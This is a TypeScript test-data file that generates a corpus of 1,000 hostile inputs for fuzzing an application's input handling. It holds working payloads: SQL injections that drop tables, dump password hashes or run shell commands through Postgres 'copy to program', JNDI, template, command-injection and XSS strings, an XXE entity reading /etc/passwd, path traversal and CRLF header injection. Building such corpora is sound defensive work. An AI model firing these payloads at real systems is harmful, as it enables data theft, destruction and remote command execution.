/** A thousand texts that attack something: databases, parsers, prototypes, templates, terminals, file systems, human readers. */

const sql = words(`'¦''¦"¦\`¦;¦\\'¦' or '1'='1¦' or 1=1 --¦' or 1=1 #¦' or 1=1 /*¦" or ""="¦') or ('1'='1
'; drop table governance_teams; --¦'; delete from governance_virtual_keys where '1'='1
'; update governance_budgets set max_limit = 9e15; --
'; insert into governance_customers (id, name) values ('x', 'y'); --¦' union select name, sql from sqlite_master --
' union all select digest, id from governance_virtual_keys --¦' union select usename, passwd from pg_shadow --
'; attach database '/tmp/evil.db' as evil; --¦'; pragma writable_schema = 1; --
' || load_extension('/tmp/evil.so') || '¦' || randomblob(1000000000) || '
' and 1 = like('abcdefg', upper(hex(randomblob(100000000)))) --¦'; copy governance_customers to program 'sh -c id'; --
'; create function evil() returns void as $$ begin end $$ language plpgsql; --¦' || pg_sleep(10) || '
'; select pg_sleep(10); --¦'; vacuum; --¦'; set role postgres; --
' and (select count(*) from information_schema.tables) > 0 --
' and substr((select digest from governance_virtual_keys limit 1), 1, 1) = 'a' --¦case when (1=1) then 1/0 else 1 end
e'\\'; select 1; --¦$$; select 1; $$¦$tag$; drop table usage_calls; $tag$¦1; commit; drop table headgate_revisions
1) returning *; --¦x' on conflict do nothing; --¦x', 'y'), ('z¦/*!50000 select */ 1¦%27%20or%201%3D1
\\u0027 or 1=1¦0x27206f7220313d31¦chr(39)||chr(59)`);
const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `harmless${text}`,
  (text) => `${text} -- `,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll(" ", "/**/"),
  (text) => text.replaceAll("'", "’"),
  (text) => `"${text}"`,
  (text) => `(${text})`,
  (text) => text.replaceAll(" ", "\t\n"),
  (text) => `${text}\0`,
];

const placeholders = words(
  `$1¦$1::text¦$0¦$99999¦$$¦?¦??¦?1¦?-1¦@p¦@p1¦:name¦:1¦::jsonb¦%s¦%n¦%d%d%d%d¦%1$s¦%(x)s¦{}¦{0}¦{x}¦#1`,
);
const templates = words(`\${7*7}¦{{7*7}}¦{{constructor.constructor('return process')()}}¦<%= 7*7 %>¦#{7*7}¦*{7*7}¦@(7*7)
\${jndi:ldap://127.0.0.1/x}¦$(id)¦\`id\`¦| id¦&& id¦[[\${7*7}]]¦<script>alert(1)</script>¦<img src=x onerror=alert(1)>
javascript:alert(1)¦=cmd|' /C calc'!A0¦+1+1¦@import 'x'
<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>`);
const prototypes =
  words(`__proto__¦constructor¦prototype¦toString¦valueOf¦hasOwnProperty¦__defineGetter__¦__lookupSetter__¦toJSON¦then¦length
arguments¦Symbol.iterator¦__proto__.admin¦constructor.prototype.admin¦__proto__[admin]¦isPrototypeOf¦eval¦this`);
const fragments =
  words(`{¦}¦[¦]¦,¦{"a":1}¦{"$ne":null}¦{"$gt":""}¦{"__proto__":{"admin":true}}¦","admin":true,"x":"¦"}¦"]¦null¦true¦false
undefined¦[object Object]¦{"a":{"a":{"a":{"a":{}}}}}
\\¦\\\\¦\\"¦\\u0000¦\\x00¦\\ud800¦//¦/* */¦<!--¦]]>`);
const wildcards = words(`%¦_¦%%¦__¦%_%¦\\%¦\\_¦a%¦%a¦[a-z]¦*¦.*¦(a+)+$¦^¦^(?:a|a)*$¦|¦a{1,99999}`);
const numbers =
  words(`0¦1¦-1¦-0¦1.0¦1e3¦1e999¦-1e999¦NaN¦Infinity¦-Infinity¦0x10¦0b1¦0o7¦1_000¦007¦9007199254740993¦9223372036854775807
9223372036854775808¦-9223372036854775809¦18446744073709551616
111111111111111111111111111111111111111111111111111111111111¦٣¦１２¦²¦½¦1,5¦ 1¦+1¦1n`);
const breaks = [
  "\r\n",
  "a\r\nb",
  "a\r\nx-injected: yes",
  "a\r\n\r\nGET /health HTTP/1.1\r\n\r\n",
  "a\rb",
  "a\nb",
  "\n\n",
  "-- \n select 1",
  "%0d%0ax-injected: yes",
  "\\r\\n",
  "a\r\nset-cookie: x=y",
  "a\r\ncontent-length: 0",
  "a\r\ntransfer-encoding: chunked",
  "a\u2028b",
  "a\u2029b",
  "a\u0085b",
  "嘊嘍",
  "data: [DONE]\n\n",
  "event: error\ndata: {}\n\n",
];
const paths =
  words(`..¦.¦../..¦../../../../etc/passwd¦..%2f..%2fetc%2fpasswd¦%2e%2e%2f¦..\\..\\windows¦/etc/passwd¦//¦/¦\\\\host\\share
C:\\boot.ini¦file:///etc/passwd¦http://169.254.169.254/¦a/b¦a?b=c¦a#b¦a;b=c¦a&b=c¦a%00b¦a%2500b¦%¦%zz¦%e0%80%af¦CON¦NUL
.git/config¦~root¦-rf¦--help`);
const looks =
  words(`аdmin¦ｓｅｌｅｃｔ¦ʼ or 1=1¦＇ or 1=1¦‘ or 1=1¦ʹ¦ＯＲ¦ﬁ¦ß¦İ¦ı¦K¦Å¦é¦é¦Z\u0351\u036b\u0313a\u0334l\u0337g\u0338o\u0335
\u202etxt.exe¦\u200fabc¦\u202aabc\u202c¦\u2066abc\u2069¦مرحبا¦שלום¦漢字¦ไทย¦हिन्दी¦🚪¦👩\u200d👩\u200d👧\u200d👦¦🏳️\u200d🌈¦🇩🇪
👍🏽¦𝕏¦𠜎¦\ufeffabc¦a\u200bb¦a\u200db¦a\u00adb¦\u00a0¦\u3000¦ ¦\t¦\ufffd¦\ufffe¦\uffff¦\u{10ffff}`);
const repeated = ["[".repeat(120), '{"a":'.repeat(60), "1".repeat(60), "😀".repeat(40), "e\u0301".repeat(100)];
const halves = [
  "\ud800",
  "\udbff",
  "\udc00",
  "\udfff",
  "a\ud83d",
  "\ude00b",
  "\ude00\ud83d",
  "a\ud800b",
  "\ud800\ud800",
  "\udc00'",
  "'\ud800",
  "\ud83d\ude00\ud83d",
  "x".repeat(254) + "\ud83d",
  "x".repeat(255) + "\ud83d\ude00",
];
const moments = words(`1h'¦1h; --¦1h 1h¦h¦1x¦-1h¦1h\0¦99999999Y¦1e3s¦0.5h'¦1 h¦１h¦2030-01-31T12:00:00Z'¦2030-02-31T12:00:00Z
2030-01-31' or 1=1¦0000-00-00T00:00:00Z¦+275760-09-13T00:00:00Z¦now()¦current_timestamp¦infinity¦epoch¦'now'::timestamp`);
const conditions =
  words(`model == "x"¦model == 'x' || true¦"¦")¦true || (¦1 / 0 == 1¦[1][9] == 1¦a.b.c¦matches('(a+)+$')¦size(model) > 0
headers['x']¦model.matches("[")¦has(x.y)¦{}¦in¦params.x == null¦'\\x00'¦b'\\xff'`);
const controls = Array.from({ length: 33 }, (_, code) => `a${String.fromCharCode(code === 32 ? 127 : code)}b`);
const further = Array.from({ length: 32 }, (_, i) => `a${String.fromCharCode(128 + i)}b`);
/** Up to the length limits of fields and beyond. */
const lengths = [63, 64, 65, 127, 128, 129, 254, 255, 256, 257, 1000, 4095, 4096, 4097, 10_000].flatMap((length) =>
  ["a", "'", '"', "\\", "é", "漢"].map((filling) => filling.repeat(length)),
);

const attempts = sql.flatMap((text) => wraps.map((wrap) => wrap(text)));
const technical = [placeholders, templates, prototypes, fragments, wildcards, numbers, moments, conditions];
const characters = [breaks, paths, looks, repeated, halves, controls, further, lengths];
const listed = [attempts, technical.flat(), characters.flat()].flat();

/** Two in one text: what filters one may let the other through. */
function* pairs(): Generator<string> {
  const [some, others] = [
    [...placeholders, ...templates, ...fragments.slice(0, 15), ...halves.slice(0, 7)],
    [...looks, ...breaks, ...sql],
  ];
  for (let i = 0; ; i++) yield `${some[i % some.length]}${others[(i * 7) % others.length]}`;
}

function exactly(count: number): readonly string[] {
  const texts = new Set(listed);
  for (const text of pairs()) {
    if (texts.size >= count) break;
    texts.add(text);
  }
  return [...texts].slice(0, count);
}

export const corpus: readonly string[] = exactly(1000);

/** One per line, or separated by a bar. */
function words(text: string): readonly string[] {
  return text.split(/[¦\n]/);
}
